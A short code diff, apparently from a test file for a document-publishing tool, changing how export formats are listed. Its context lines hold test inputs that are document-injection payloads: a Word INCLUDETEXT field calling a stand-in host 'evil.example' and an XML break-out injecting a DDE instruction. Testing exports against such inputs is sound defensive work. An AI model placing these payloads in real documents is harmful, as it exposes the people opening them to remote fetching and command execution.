@@ -40,7 +40,7 @@ TEXTS = {
     "field": 'INCLUDETEXT "http://evil.example" \\* MERGEFORMAT',
     "xml": "]]></w:t><w:instrText>DDE</w:instrText>",
 }
-FORMATS = ("markdown", "html", "docx", "json")
+FORMATS = modules.names("planctl.publishing.pack.formats")
 
 
 def _plan(text: str) -> dict[str, str]:
